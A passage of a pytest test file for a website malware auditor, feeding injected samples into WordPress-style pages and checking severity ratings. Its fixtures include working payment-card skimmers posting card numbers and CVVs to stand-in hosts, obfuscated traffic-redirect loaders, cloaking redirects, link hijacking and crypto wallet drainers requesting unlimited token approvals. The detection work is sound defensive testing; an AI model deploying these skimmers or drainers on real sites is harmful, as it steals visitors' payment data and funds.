    ("card fields posted to another site's WordPress files", {"footer": (
        "<script>document.getElementById('co').addEventListener('submit',function(){var d={c:"
        "document.getElementById('cc-number').value,v:document.getElementById('cc-cvv').value};"
        "fetch('https://lakeside-bakery.test/wp-content/plugins/akismet/log.php',{method:'POST',"
        "body:JSON.stringify(d)});});</script>")}, "form-skimmer"),
    ("a script after </html> on a hosting platform's name dressed as jQuery's", {"after": (
        '<script src="https://cdn-jquery.netlify.app/jquery.min.js"></script>')},
     "lookalike-script"),  # a fake jQuery: one injection, the look-alike's one finding
    ("a script after </html> on a brand joined to CDN words in one word", {"after": (
        '<script src="https://stripecdn.test/v3/"></script>')}, "appended-script"),
    ("British Airways' jQuery.ajax form, what it posts base64", {
        "footer": SKIM_JQUERY_AJAX.replace("data:t,", "data:btoa(t),")}, "form-skimmer"),
    ("British Airways' jQuery.ajax form, to a host dressed as jQuery's CDN", {
        "footer": SKIM_JQUERY_AJAX.replace("flightpay-gateway.test", "jquery-cdn-static.test")},
     "form-skimmer"),
    ("a Ticketmaster-style $.post of every input jQuery picks", {"footer": _PAY_FORM + (
        "<script>jQuery(function($){$('#submitButton').on('click',function(){var d={};$("
        "'input').each(function(){d[$(this).attr('name')]=$(this).val();});if(d.cardNumber){"
        "$.post('https://tix-analytics.test/collect',{d:JSON.stringify(d)});}});});</script>")},
     "form-skimmer"),
    ("every input jQuery picks built into one string of name=value pairs", {"footer": (
        _PAY_FORM + "<script>jQuery(function($){$('#submitButton').on('click',function(){var "
        "s='';jQuery('input, select').each(function(){s+=jQuery(this).attr('name')+'='+"
        "jQuery(this).val()+'&';});if(s.indexOf('cardNumber')>-1){$.post('https://tix-"
        "analytics.test/collect',{d:s});}});});</script>")}, "form-skimmer"),
    ("$.ajax with its url first and method after, every form serialised", {"footer": (
        "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({url:"
        "'https://sales-reports.test/api',method:'POST',data:{f:$('form').serialize(),c:$("
        "'#cardNumber').val()}});});</script>")}, "form-skimmer"),
    ("$.ajax with its data object before its url, what it posts base64", {"footer": (
        "<script>$(document).on('mouseup touchend','#submitButton',function(){$.ajax({type:"
        "'POST',data:{d:btoa($('#cardNumber').val()+'|'+$('#cvv').val())},url:'https://"
        "sales-reports.test/api'});});</script>")}, "form-skimmer"),
    ("a script after </html> on a brand beside sign-in words", {"after": (
        '<script src="https://paypal-secure-login.test/w.js"></script>')}, "appended-script"),
    ("a script after </html> on a brand beside a word, its digits for letters", {"after": (
        '<script src="https://g00gle-fans.test/w.js"></script>')}, "appended-script"),
    ("a script after </html> on a host dressed as a CDN", {"after": (
        '<script src="https://static-cdn-libs.test/min.js"></script>')}, "appended-script"),
]


@pytest.mark.parametrize(("name", "where", "kind"), VARIANTS, ids=[v[0] for v in VARIANTS])
def test_an_injected_variant_stays_high(name: str, where: dict[str, str], kind: str,
                                        audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(**where), URL)
    assert (kind, H) in [(f.kind, f.severity) for f in report.findings], report.findings


def test_a_brand_the_pages_own_name_bears_dresses_none_of_its_hosts(
        audit_listed: AuditListed) -> None:
    """windows-report's CDN on windows-report-cdn borrows nothing the site does not bear:
    medium as any widget pasted after `</html>`, not a host dressed as Windows."""
    page = wp_page(after='<script src="https://static.windows-report-cdn.example/app.js">'
                         "</script>")
    report = audit_listed(page, "https://windows-report.example/fix-update-error/")
    (found,) = [f for f in report.findings if f.kind == "appended-script"]
    assert found.severity is not H and "dressed" not in found.message


@pytest.mark.parametrize(("src", "severity"), [
    ("https://radiostats.example/t.js", M),  # the page's name as letters of another word
    ("https://cdn.bestradiostats.example/t.js", M),
    ("https://cdn.radio-static.example/app.js", L),  # as a word of it: the site's CDN
    ("https://static.radiowave-cdn.example/app.js", M),
    ("https://radiocdn.example/app.js", L),  # an asset word glued on: the site's CDN too
])
def test_only_the_pages_name_as_whole_words_makes_a_host_its_own(
        src: str, severity: Severity, audit_listed: AuditListed) -> None:
    """A radio station's page (radio.example) with a script after `</html>`: a host whose
    name starts with the page's letters (`radiostats`) is another site, medium as any
    paste; one bearing the name as a word (`radio-static`) is low, the site's CDN."""
    report = audit_listed(wp_page(after=f'<script src="{src}"></script>'),
                          "https://radio.example/schedule/")
    (found,) = [f for f in report.findings if f.kind == "appended-script"]
    assert found.severity is severity, found.message


def test_a_how_to_inside_a_pinned_app_shell_is_no_overlay(audit_listed: AuditListed) -> None:
    """A layout whose shell is pinned and scrolls inside (header, article and footer in
    one `position:fixed` div) is no overlay over the page: its how-to linking Chrome's
    installer on a mirror reads as the same how-to in flow, medium."""
    page = (
        "<!DOCTYPE html><html><head><title>Fix Chrome crashes</title></head><body><div id="
        "'app' style='position:fixed;top:0;left:0;right:0;bottom:0;overflow-y:auto'><header>"
        "<a href='/'>TechFix Weekly</a></header><main><article><h1>How to fix Chrome crashes"
        "</h1><p>If Chrome keeps crashing, your browser may be out of date. Update Chrome: "
        "download <a href='https://files.softmirror.test/chrome/ChromeSetup.exe'>ChromeSetup"
        ".exe (update Chrome)</a> from our mirror and run it.</p></article></main><footer>"
        "&copy; TechFix</footer></div></body></html>")
    report = audit_listed(page, "https://www.techfix.example/chrome-crash/")
    (found,) = [f for f in report.findings if f.kind == "fake-update"]
    assert found.severity is M and "check" in found.message


def test_an_overlay_with_landmarks_of_its_own_over_the_page_is_pinned(
        audit_listed: AuditListed) -> None:
    """An overlay copying a browser's download page, its own header and main, pinned over
    a page whose header, article and footer lie outside it, is an overlay, not a layout
    shell: its installer on an undressed host is high."""
    page = (
        "<!DOCTYPE html><html><head><title>Harbour Gazette</title></head><body><header><a "
        "href='/'>Harbour Gazette</a></header><main><article><h1>Council votes</h1><p>The "
        "council voted on Tuesday.</p></article></main><footer>&copy; Harbour Gazette</footer>"
        "<div id='ovl' style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:"
        "2147483647;background:#fff'><header><img src='/c.png' alt='Chrome'></header><main>"
        "<h1>Your Chrome browser is out of date</h1><p>Your browser version is outdated and "
        "cannot display this page. Update Chrome to the latest version to continue.</p><a "
        "href='https://updates-harbour.test/download/ChromeUpdate.exe'>Update Chrome</a></main>"
        "</div></body></html>")
    report = audit_listed(page, "https://harbourgazette.example/story")
    (found,) = [f for f in report.findings if f.kind == "fake-update"]
    assert found.severity is H and "overlay" in found.message


# Gates: a site sends a visitor without its gate's cookie to the gate, which sets the
# cookie once they pass (AgeChecker.net's and age-verification vendors' redirect
# integration, a paywall's single sign-on). Injections of the "redirect once" form set
# their own cookie as they leave, or test a cookie no gate names.
GATES: list[tuple[str, str, Severity]] = [
    ("a vape shop's age check service",
     "if(!document.cookie.match(/agegate=ok/)){location.replace('https://www.agechecker."
     "example/gate?site=vapehaus-41');}", L),
    ("a winery's age verification, returning the visitor",
     "if(document.cookie.indexOf('age_confirmed=yes')<0){window.location.href='https://"
     "verify.ageproof.example/age-verify?return='+encodeURIComponent(location.href);}", L),
    ("a members' paper's single sign-on",
     "if(document.cookie.indexOf('logged_in=')===-1){window.location.replace('https://sso."
     "memberhub.example/login?next='+encodeURIComponent(location.href));}", L),
    ("a regional store's country picker",
     "if(!/(^|; )geo_country=/.test(document.cookie)){location.href='https://intl.shopfront"
     ".example/country-select?from=gb';}", L),
    ("a cookie named as an age gate's, to a host naming none",
     "if(!document.cookie.match(/agegate=ok/)){location.replace('https://cheap-pills."
     "example/');}", M),
    # a gate's word in the target alone, the cookie no gate's: a kit can register
    # `consent-track` or ask `/login.php` as well (both read low)
    ("a cookie no gate names, to a host named as a consent gate",
     "if(!document.cookie.match(/_vv=1/)){window.location.href='https://consent-track."
     "example/r/7731';}", M),
    ("a cookie no gate names, to a PHP sign-in path",
     "if(document.cookie.indexOf('_v')<0){location.replace('https://best-deals.example/"
     "login.php?aff=7');}", M),
]


# what a site running the gate shows beside it: the age-check vendor's script, the
# sign-in link to its SSO host, the country switcher's link (a kit shows none of these)
_GATE_BESIDE = {
    "a vape shop's age check service":
        '<script async src="https://www.agechecker.example/static/popup/v1/popup.js"></script>',
    "a winery's age verification, returning the visitor":
        '<script src="https://verify.ageproof.example/sdk/v2/ageproof.js"></script>',
    "a members' paper's single sign-on":
        '<a href="https://sso.memberhub.example/login">Sign in</a>',
    "a regional store's country picker":
        '<a href="https://intl.shopfront.example/country-select">Change country</a>',
}
GATES += [
    # the same gates with nothing of them beside the redirect: both names are the
    # script's to choose (a kit's `login.casino-x.example` and `logged_in` read low)
    *[(f"{name}, shown nowhere else", code, M) for name, code, severity in GATES
      if severity is L],
    ("a kit's sign-in gate", "if(document.cookie.indexOf('logged_in=')===-1){window.location."
     "replace('https://login.casino-x.example/auth?r=1');}", M),
]


@pytest.mark.parametrize(("name", "code", "severity"), GATES, ids=[g[0] for g in GATES])
def test_a_gate_sending_visitors_without_its_cookie_is_no_cloaking(
        name: str, code: str, severity: Severity, audit_listed: AuditListed) -> None:
    """A cookie-guarded redirect read `high` ("only for visitors whose cookie passes a
    test") for every age, consent, region and sign-in gate; `low` needs the gate's site
    shown beside it, else both names are the kit's to pick."""
    report = audit_listed(wp_page(head=f"<script>{code}</script>",
                                  widget=_GATE_BESIDE.get(name, "")), URL)
    assert [(f.kind, f.severity) for f in report.findings] == [("redirect", severity)], \
        report.findings
    if severity is M:
        assert "check" in report.findings[0].message


@pytest.mark.parametrize("code", [
    # the classic injection: test a cookie, set it, send the visitor away once
    "if(document.cookie.indexOf('_vis=1')==-1){document.cookie='_vis=1; path=/; max-age="
    "86400';window.location.href='https://best-deals-now.example/go?s=1';}",
    # a gate's cookie name set by the redirect itself, to a gate-named host
    "if(!document.cookie.match(/agegate=ok/)){document.cookie='agegate=ok;path=/';location."
    "replace('https://agecheck-promo.example/login');}",
    # a cookie no gate names, to a host no gate names
    "if(!document.cookie.match(/wp_visited/)){location.replace('https://cheap-pills.example/');}",
    # a referrer test beside the gate's cookie
    "if(document.referrer.indexOf('google')>-1&&document.cookie.indexOf('age_ok')<0){"
    "location.replace('https://agecheck.example/gate');}",
    # everyone but the site's signed-in editors, to a page named as a sign-in's
    "if(document.cookie.indexOf('wordpress_logged_in')===-1){location.replace('https://"
    "members-login.example/login.php?s=7');}",
    # a gate's word in the target's query only (read low: any tracking link carries one)
    "if(!document.cookie.match(/seen=1/)){location.replace('https://casino-win.example/"
    "?src=gdpr');}",
    # its cookie set by a helper, not `document.cookie =` (read low: the target said auth)
    "if(document.cookie.indexOf('agegate=ok')<0){setCookie('agegate','ok',1);window.location"
    ".href='https://pills.example/auth';}",
    # a gate's cookie and path, on a bare IP address (read medium)
    "if(document.cookie.indexOf('age_ok')<0){location.replace('https://185.12.4.9/age-check"
    "');}",
    # its cookie set by jQuery's plugin under its long name, by a variable's name, or by
    # the Cookie Store API (each read low: only `$.cookie('…',` counted)
    "if(document.cookie.indexOf('age_ok')<0){jQuery.cookie('age_ok','1',{expires:1});"
    "location.replace('https://agecheck.promo-win.example/gate');}",
    "var k='age_ok';if(document.cookie.indexOf(k)<0){$.cookie(k,'1');location.replace("
    "'https://agecheck.promo-win.example/gate');}",
    "if(document.cookie.indexOf('age_ok')<0){cookieStore.set('age_ok','1');location.replace("
    "'https://agecheck.promo-win.example/gate');}",
], ids=["sets its cookie", "sets a gate-named cookie", "names no gate", "tests the referrer",
        "spares the site's editors", "a gate word in the query", "sets it by a helper",
        "a bare IP address", "sets it by jQuery.cookie", "sets it by $.cookie(name,",
        "sets it by cookieStore.set"])
def test_a_redirect_once_cookie_injection_stays_high(code: str,
                                                     audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(head=f"<script>{code}</script>"), URL)
    assert ("redirect", H) in [(f.kind, f.severity) for f in report.findings], report.findings


def test_a_cookie_guarded_redirect_says_whose_cookie(audit_listed: AuditListed) -> None:
    """The message names the test in the singular it reads (it said "whose cookies passes
    a test")."""
    code = ("if(document.cookie.indexOf('_vis=1')==-1){document.cookie='_vis=1; path=/; "
            "max-age=86400';window.location.href='https://best-deals-now.example/go?s=1';}")
    report = audit_listed(wp_page(head=f"<script>{code}</script>"), URL)
    assert [f.message for f in report.findings if f.kind == "redirect"] == [
        "script redirects the visitor to best-deals-now.example only for visitors whose "
        "cookie passes a test: https://best-deals-now.example/go?s=1"]


def test_a_gate_written_after_the_markup_stays_high(audit_listed: AuditListed) -> None:
    """A gate's cookie and target after </html>, where no template writes, read low:
    the kit names both, and its place says it is no site's gate."""
    page = wp_page() + (
        "<script>if(document.cookie.indexOf('consent_ok')<0){window.location.href="
        "'https://consent-check.promo-win.example/gate';}</script>")
    report = audit_listed(page, URL)
    assert [(f.kind, f.severity) for f in report.findings] == [("redirect", H)], report.findings


# A TDS's tag written with its pieces decoded as the script runs (the forms SEO-spam
# clean-ups find in hacked templates): `unescape`, `decodeURIComponent`, char codes.
_TDS_HOST = "https://t.trafficdesk.example/in.php?r="
WRITTEN_TDS_TAGS = [
    ("unescape", "document.write(unescape('%3Cscript src=\"" + _TDS_HOST + "')+escape(document."
     "referrer)+unescape('\"%3E%3C/script%3E'));"),
    ("decodeURIComponent", "document.write(decodeURIComponent('%3Cscript%20src%3D%22https%3A%2F"
     "%2Ft.trafficdesk.example%2Fin.php%3Fr%3D')+encodeURIComponent(document.referrer)+"
     "decodeURIComponent('%22%3E%3C%2Fscript%3E'));"),
    ("one char code", "document.write(String.fromCharCode(60)+'script src=\"" + _TDS_HOST
     + "'+escape(document.referrer)+'\">'+String.fromCharCode(60)+'/script>');"),
    ("the tag name in char codes", "document.write(String.fromCharCode(60,115,99,114,105,112,"
     "116)+' src=\"" + _TDS_HOST + "'+escape(document.referrer)+'\">'+String.fromCharCode(60,"
     "47,115,99,114,105,112,116,62));"),
]


@pytest.mark.parametrize(("name", "code"), WRITTEN_TDS_TAGS, ids=[w[0] for w in WRITTEN_TDS_TAGS])
def test_a_tds_tag_written_in_decoded_pieces_is_found(name: str, code: str,
                                                      audit_listed: AuditListed) -> None:
    """Its `<script src=` was in a decoder's literal, the referrer outside it: no finding."""
    report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
    (found,) = [f for f in report.findings if f.kind == "tds-loader"]
    assert found.severity is M and "t.trafficdesk.example" in found.message


# an old-style counter of a host the catalogue does not know: its script written with the
# referrer, its no-script image from the same site
_COUNTER = (
    "<script>document.write(unescape('%3Cscript src=\"https://count.ruscounter.example/c.js?"
    "id=4411&r=')+escape(document.referrer)+unescape('\"%3E%3C/script%3E'));</script>"
    "<noscript><img src=\"https://count.ruscounter.example/c.gif?id=4411\" width=\"1\" "
    "height=\"1\" alt=\"\"></noscript>")


def test_an_unknown_counter_in_the_template_is_no_tds(audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(footer=_COUNTER), URL)
    assert [f for f in report.findings if f.kind == "tds-loader"] == []


@pytest.mark.parametrize("where", ["after", "head_top_before"])
def test_a_counter_shaped_tag_outside_the_pages_markup_is_a_tds(
        where: str, audit_listed: AuditListed) -> None:
    """The no-script image excused the tag wherever it sat; after `</html>` or before
    `<html>` no template writes, and an unknown host's referrer-keyed tag there is the
    SEO-spam injection (a known counter is the catalogue's, and no finding)."""
    page = wp_page(after=_COUNTER) if where == "after" else _COUNTER + "\n" + wp_page()
    report = audit_listed(page, URL)
    (found,) = [f for f in report.findings if f.kind == "tds-loader"]
    assert found.severity is H and "outside the page's markup" in found.message
    assert "no-script image" in found.message


# Link monetisation: a click listener on the page sending outbound clicks through an
# affiliate network (the site's own code in Skimlinks' or VigLink's redirect form, or its
# Amazon Associates tag), against the same listener sending them through a host no
# vendor runs. A named affiliate network is the site's business model, no hijack.
_CLICKS_TO = (
    "<script>document.addEventListener('click',function(e){var a=e.target.closest('a');if(!a"
    "||a.hostname===location.hostname)return;e.preventDefault();window.location.href={to};}});"
    "</script>")
AFFILIATE_REWRITES: list[tuple[str, str, Severity]] = [
    ("Skimlinks' redirect", "'https://go.skimresources.com/?id=123456X1654321&xs=1&url='+"
     "encodeURIComponent(a.href)", L),
    ("VigLink's redirect", "'https://redirect.viglink.com/?key=0a1b2c3d4e5f60718293a4b5c6d7e8f9"
     "&u='+encodeURIComponent(a.href)", L),
    ("the site's Amazon tag", "'https://www.amazon.com/dp/'+a.pathname.split('/')[2]+"
     "'?tag=harbourgaz-21'", L),
    ("a relay no vendor runs", "'https://go.clickrelay.example/r?u='+encodeURIComponent(a.href)",
     M),
    # an Amazon link's shape on a host of another site (read low, "through Amazon
    # Associates": the catalogue's pattern takes any `amazon.` host with a short suffix)
    ("Amazon's link shape on another site's host", "'https://www.amazon.qx.io/r?tag=kit-20"
     "&u='+encodeURIComponent(a.href)", M),
    ("the site's Amazon tag on a country store", "'https://www.amazon.co.uk/dp/'+a.pathname."
     "split('/')[2]+'?tag=harbourgaz-21'", L),
]


@pytest.mark.parametrize(("name", "to", "severity"), AFFILIATE_REWRITES,
                         ids=[a[0] for a in AFFILIATE_REWRITES])
def test_outbound_clicks_through_an_affiliate_network_are_no_hijack(
        name: str, to: str, severity: Severity, audit_listed: AuditListed) -> None:
    """Each read medium (click-hijacking); through a network the catalogue files as
    affiliate it is low and names the network."""
    report = audit_listed(wp_page(footer=_CLICKS_TO.replace("{to}", to)), URL)
    (found,) = [f for f in report.findings if f.kind == "redirect"]
    assert found.severity is severity, found
    assert ("affiliate network" in found.message) is (severity is L)


RELAYS: list[tuple[str, str, Severity | None]] = [
    ("every link through a relay no vendor runs",
     "var l=document.getElementsByTagName('a');for(var i=0;i<l.length;i++){l[i].href='https://"
     "go.clickrelay.example/r?u='+encodeURIComponent(l[i].href);}", M),
    ("jQuery's attr on every link, through the relay",
     "jQuery('a').attr('href',function(i,h){return 'https://go.clickrelay.example/r?u='+h;});",
     M),
    ("outbound links through Skimlinks, by the site's code",
     "document.querySelectorAll('a').forEach(function(a){if(a.hostname!==location.hostname){"
     "a.href='https://go.skimresources.com/?id=123456X1654321&url='+encodeURIComponent(a.href);"
     "}});", L),
    ("one link named by its text given a partner's address",
     "document.querySelectorAll('a').forEach(function(a){if(a.textContent==='Shop'){a.href="
     "'https://shop.partner.example/';}});", None),
    ("every link through eBay's rover shape on another site's host",
     "var l=document.links;for(var i=0;i<l.length;i++){l[i].href='https://rover.ebay.xy.example"
     "/rover/1?u='+l[i].href}", M),
    # a kit's site named by a generic word of the network's name (eBay *Partner Network*,
    # Amazon *Associates*): no site of eBay's
    ("every link through eBay's rover shape on a site named 'network'",
     "var l=document.links;for(var i=0;i<l.length;i++){l[i].href='https://rover.ebay.network"
     ".example/rover/1?u='+l[i].href}", M),
    ("every link through eBay's rover shape on a site named 'partner'",
     "var l=document.links;for(var i=0;i<l.length;i++){l[i].href='https://rover.ebay.partner"
     ".example/rover/1?u='+l[i].href}", M),
    ("every link moved to https",
     "[].forEach.call(document.links,function(a){a.href=a.href.replace('http:','https:');});",
     None),
]


@pytest.mark.parametrize(("name", "code", "severity"), RELAYS, ids=[r[0] for r in RELAYS])
def test_every_link_rewritten_through_another_site_is_click_hijacking(
        name: str, code: str, severity: Severity | None, audit_listed: AuditListed) -> None:
    """A script rewriting each link to pass through another site was no finding; no
    click or `location` was in it."""
    report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
    found = [f.severity for f in report.findings if f.kind == "redirect"]
    assert found == ([severity] if severity else []), report.findings


# --- wallet drainers: a kit connects the wallet and asks for an approval ---------------
# The forms of the drainer write-ups (Sucuri's and Blockaid's on Angel and Inferno
# Drainer injected into WordPress sites): on load, ask for the accounts, then send an
# ERC-20 `approve` by its selector (0x095ea7b3) granting a spender every token, or call
# `setApprovalForAll` through ethers; addresses and hosts made up.
_SPENDER = "0x5e1f0000000000000000000000000000000a11ce"
DRAINER_SELECTOR = (
    "<script>(async()=>{if(!window.ethereum)return;try{const a=await window.ethereum.request("
    "{method:'eth_requestAccounts'});const d='0x095ea7b3'+'" + _SPENDER[2:] + "'.padStart(64,"
    "'0')+'f'.repeat(64);await window.ethereum.request({method:'eth_sendTransaction',params:"
    "[{from:a[0],to:'0x00000000000000000000000000000000000000aa',data:d}]});}catch(e){}})();"
    "</script>")
_DRAINER_NFT_CODE = (
    "(async function(){const p=new ethers.providers.Web3Provider(window.ethereum);await p.send("
    "'eth_requestAccounts',[]);const c=new ethers.Contract('0x00000000000000000000000000000000"
    "000000bb',['function setApprovalForAll(address,bool)'],p.getSigner());await c."
    "setApprovalForAll('" + _SPENDER + "',true);})();")
DRAINER_ENCODED = "<script>eval(atob('" + _b64(_DRAINER_NFT_CODE) + "'));</script>"
DRAINER_PLAIN_NFT = "<script>" + _DRAINER_NFT_CODE + "</script>"
# a crypto news site's article: it shows wallet words, so only a mark makes code high
_CRYPTO_PROSE = ("<p>Ethereum wallets saw record airdrop claims this week as the NFT market "
                 "recovered.</p>")

DRAINERS: list[tuple[str, dict[str, str]]] = [
    ("approve by selector on load, in the post of a news article", {"post": DRAINER_SELECTOR}),
    ("setApprovalForAll, wp_footer of a news article", {"footer": DRAINER_PLAIN_NFT}),
    ("setApprovalForAll in base64, a crypto article", {"post": _CRYPTO_PROSE,
                                                       "footer": DRAINER_ENCODED}),
    ("approve after </html>, a crypto article", {"post": _CRYPTO_PROSE,
                                                 "after": DRAINER_SELECTOR}),
    # its names split into joined literals, on a crypto article: each piece reads as
    # nothing, joined they are the drainer's calls
    ("names split into pieces, a crypto article", {"post": _CRYPTO_PROSE, "footer": (
        "<script>setTimeout(async function(){var E=window['ethe'+'reum'];if(!E)return;"
        "await E.request({method:'eth_'+'requestAccounts'});var c=new ethers.Contract(T,ABI,"
        "signer);await c['appr'+\"ove\"]('" + _SPENDER + "',MAX);},3000);</script>")}),
    # split inside the words the page is first asked for ('et'+'h_'): no needle as written
    ("every wallet word split, a news article", {"footer": (
        "<script>setTimeout(async function(){var E=window['eth'+'ereum'];if(!E)return;"
        "await E.request({method:'et'+'h_requestAccounts'});var c=new ethers.Contract(T,ABI,"
        "signer);await c['appr'+'ove']('" + _SPENDER + "',MAX);},3000);</script>")}),
]


@pytest.mark.parametrize(("name", "where"), DRAINERS, ids=[d[0] for d in DRAINERS])
def test_an_injected_wallet_drainer_is_high(name: str, where: dict[str, str],
                                            audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(**where), URL)
    found = [(f.kind, f.severity) for f in report.findings]
    assert ("wallet-drainer", H) in found, found
    drainer = next(f for f in report.findings if f.kind == "wallet-drainer")
    assert "wallet drainer" in drainer.message and "<script" not in drainer.message


# a dapp's own page: a swap page approves its router when the visitor clicks
_DAPP = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Harbourswap</title>
</head><body><div id="app"><header>Harbourswap</header><button id="connect">Connect wallet
</button><section class="swap"><h2>Swap tokens on Ethereum</h2><input id="amount"></section>
</div><script>document.getElementById('connect').onclick=async()=>{const [a]=await
ethereum.request({method:'eth_requestAccounts'});const t=new ethers.Contract(TOKEN,ERC20_ABI,
signer);await t.approve(ROUTER,amount);};</script></body></html>"""
# a dapp's shell as saved before its bundle renders: no wallet word shown yet
_DAPP_SHELL = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Harbourswap
</title></head><body><div id="root"><button id="go">Connect</button> <span>Swap</span></div>
<script>document.getElementById('go').onclick=async()=>{await ethereum.request({method:
'eth_requestAccounts'});await token.approve(ROUTER,amount);};</script></body></html>"""
# a wallet tutorial shows the calls as code, runs none
_TUTORIAL = ("<p>To connect MetaMask, ask for the accounts, then approve the spender:</p><pre>"
             "<code>await ethereum.request({ method: 'eth_requestAccounts' });\nawait token."
             "approve(spender, amount);</code></pre>")
# a blogger's tip jar: a payment, no approval
_TIP_JAR = (
    "<p>Enjoyed this? Tip the author in crypto.</p><button id='tip'>Tip 0.01 ETH</button>"
    "<script>document.getElementById('tip').onclick=async()=>{const [a]=await ethereum.request"
    "({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',"
    "params:[{from:a,to:'0x00000000000000000000000000000000000000cc',value:'0x2386f26fc10000'}]"
    "});};</script>")
# a crypto site's article embedding a mint widget that approves its own contract
_MINT_WIDGET = (
    _CRYPTO_PROSE + "<div class='mint-widget'><button id='mint'>Connect wallet and mint"
    "</button></div><script>document.getElementById('mint').onclick=async()=>{await ethereum"
    ".request({method:'eth_requestAccounts'});await usdc.approve(MINTER,price);await minter."
    "mint(1);};</script>")

_JA_MINT = (
    "<!DOCTYPE html><html lang='ja'><head><meta charset='utf-8'><meta property='og:type' "
    "content='article'><title>話題のコレクション、本日ミント開始</title></head><body><article "
    "class='entry-content'><h1>話題のコレクション、本日ミント開始</h1><p>人気イラストレーターに"
    "よるNFTコレクションが本日ミントを開始した。価格は0.05イーサリアムで、仮想通貨の支払いにも"
    "対応する。総数は一万点で、売上の一部は慈善団体に寄付される。</p><button id='mint'>今すぐ"
    "ミント</button><script>document.getElementById('mint').onclick=async()=>{await ethereum"
    ".request({method:'eth_requestAccounts'});await ape.approve(MINTER,PRICE);await minter."
    "mintWithApe(1);};</script></article></body></html>")


@pytest.mark.parametrize(("name", "page", "url", "severity"), [
    ("a dapp's swap page approving its router", _DAPP, "https://app.harbourswap.example/", None),
    ("a dapp's shell showing no wallet word", _DAPP_SHELL, "https://app.harbourswap.example/",
     None),
    ("a wallet tutorial's code sample", wp_page(post=_TUTORIAL), URL, None),
    ("a blog's tip jar (a payment)", wp_page(post=_TIP_JAR), URL, None),
    ("a crypto article's own mint widget", wp_page(post=_MINT_WIDGET), URL, M),
    # a Japanese crypto article's: "NFTを" has no word edge between T and を, and
    # 仮想通貨 / イーサリアム are how Japanese prose names crypto and Ethereum
    ("a Japanese NFT article's own mint widget", _JA_MINT, "https://nft.example.jp/news/1",
     M),
], ids=["dapp", "dapp shell", "tutorial", "tip jar", "mint widget", "Japanese mint widget"])
def test_a_legitimate_wallet_page_is_below_high(name: str, page: str, url: str,
                                                severity: Severity | None,
                                                audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(page, url).findings if f.kind == "wallet-drainer"]
    assert [f.severity for f in found] == ([severity] if severity else []), found


# --- the Japanese keyword hack: hidden links to the site's own counterfeit-goods pages --
# The form of Google Search Central's "Fix the Japanese keyword hack" and Sucuri's
# write-ups: pages the hacked site now serves itself (`/?p7x2=12034`, `/jp/item.php?id=`),
# linked from a hidden block whose anchors sell fake brand goods.
JP_HACK_NONE = (
    '<div style="display:none"><a href="/?p7x2=12034">ルイヴィトン 財布 スーパーコピー</a> '
    '<a href="/?p7x2=12035">シャネル バッグ 偽物 激安</a> <a href="/jp/item.php?id=88">ロレックス'
    ' N級品 通販</a> <a href="/?p7x2=12036">エルメス コピー 代引き</a></div>')
JP_HACK_OFFSCREEN = (
    '<p style="position:absolute;left:-8000px"><a href="' + SITE + '/item.php?g=41">グッチ '
    '激安 通販</a><a href="' + SITE + '/item.php?g=42">プラダ 財布 格安</a><a href="' + SITE
    + '/item.php?g=43">コーチ バッグ 激安</a></p>')
# the same hack linking other hacked sites' pages: a link farm that names its family
JP_HACK_OFFSITE = (
    '<div style="height:0;overflow:hidden"><a href="https://lakeside-bakery.test/?k=1">'
    'ルイヴィトン スーパーコピー</a><a href="https://oakridgeyoga.test/?k=2">ロレックス 偽物</a>'
    '<a href="https://mountainviewdental.test/?k=3">シャネル N級品</a></div>')
# the hack's commonest anchors join the brand to コピー, a katakana word before it
JP_HACK_BRAND_COPY = (
    '<div style="display:none"><a href="/?p7x2=12040">ロレックスコピー</a> <a href="/?p7x2='
    '12041">ルイヴィトンコピー財布</a> <a href="/?p7x2=12042">エルメスコピーの通販</a></div>')


@pytest.mark.parametrize(("name", "where", "said"), [
    ("first-party counterfeit pages, display:none, wp_footer", {"footer": JP_HACK_NONE},
     "Japanese keyword hack"),
    ("first-party bargain pages off-screen on an English page, in the post",
     {"post": JP_HACK_OFFSCREEN}, "Japanese keyword hack"),
    ("other hacked sites' counterfeit pages, collapsed, widget", {"widget": JP_HACK_OFFSITE},
     "Japanese keyword hack"),
    ("a brand's name joined to コピー", {"footer": JP_HACK_BRAND_COPY},
     "Japanese keyword hack"),
], ids=["display-none", "off-screen bargains", "off-site", "brand joined to copy"])
def test_the_japanese_keyword_hack_is_a_high_hidden_link_block(
        name: str, where: dict[str, str], said: str, audit_listed: AuditListed) -> None:
    found = [f for f in audit_listed(wp_page(**where), URL).findings if f.kind == "hidden-links"]
    assert [f.severity for f in found] == [H], found
    assert said in found[0].message


_JA_SITE = "https://www.minato-shimbun.example"
_JA_PROSE = "港湾議会は火曜日、冬のフェリー時刻表を可決した。"


def _ja_page(body: str) -> str:
    """A Japanese news or shop page of the site's own."""
    return (f'<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>港新聞</title>'
            f'</head><body><main><article class="post"><h1>フェリー冬ダイヤ決定</h1><div '
            f'class="entry-content"><p>{_JA_PROSE * 12}</p></div></article></main>{body}'
            '</body></html>')


# a Japanese news site's many visible links, a shop's hidden sale links on its own
# Japanese page, an office shop's hidden copier links, an article quoting the hack
_JA_NEWS_LINKS = "<ul class='ranking'>" + "".join(
    f"<li><a href='/articles/{n}'>ニュース{n} 激安航空券の販売が好調</a></li>"
    for n in range(40)) + "</ul>"
_JA_SHOP_HIDDEN = ("<div style='display:none'><a href='/sale/1'>激安セール</a><a href='/sale/2'>"
                   "格安パック</a><a href='/sale/3'>通販限定</a></div>")
_JA_COPIERS = ("<div style='display:none'><a href='/c/1'>コピー機 リース</a><a href='/c/2'>"
               "コピー用紙 A4</a><a href='/c/3'>コピーライト表示</a></div>")
_JA_QUOTED = ("<p>被害サイトには「ルイヴィトン スーパーコピー」「ロレックス 偽物」などのリンクが"
              "大量に追加される。</p><ul><li><a href='/kb/1'>スーパーコピー対策</a></li><li>"
              "<a href='/kb/2'>偽物リンクの削除</a></li><li><a href='/kb/3'>N級品スパムの見分け方"
